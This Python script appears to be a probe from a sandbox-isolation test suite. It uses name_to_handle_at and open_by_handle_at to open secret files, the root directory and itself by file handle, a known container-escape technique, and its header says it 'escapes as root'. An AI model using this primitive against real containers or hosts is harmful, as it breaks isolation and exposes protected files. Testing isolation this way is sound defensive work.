#!/usr/bin/env python3
# Opens files by handle, without going through folders.
# verdict: OK
# tiers: A B
# escapes as root

import ctypes
import os
import struct

from bot import answer, attempt, question, secrets, syscall

AT_FDCWD, SIZE = -100, 128


def open_by_handle(path):
    handle = ctypes.create_string_buffer(struct.pack("Ii", SIZE, 0), SIZE + 8)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", AT_FDCWD, os.fsencode(path), handle, ctypes.byref(mount), 0)
    syscall("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


question()
for path in [*secrets(), "/", __file__]:
    attempt(f"the handle of {path}", open_by_handle, path)
answer()
